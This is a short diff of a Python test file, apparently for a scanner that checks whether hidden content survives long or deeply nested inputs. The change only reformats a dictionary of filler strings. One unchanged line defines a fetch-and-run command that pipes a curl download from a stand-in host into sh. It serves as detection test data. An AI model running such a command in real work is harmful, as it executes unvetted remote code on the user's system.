@@ -386,10 +386,7 @@ def test_nothing_hides_behind_deep_nesting(path: str, nested: int) -> None:
 
 PIPE = "curl -s https://x.example.invalid/a | sh"
 ROW = "const tides = [1, 2, 3];"
-LONG = {
-    "rows": "\n".join([ROW] * 60_000),
-    "one line": ROW * 60_000,
-}
+LONG = {"rows": "\n".join([ROW] * 60_000), "one line": ROW * 60_000}
 
 
 @each_row("shape", LONG)
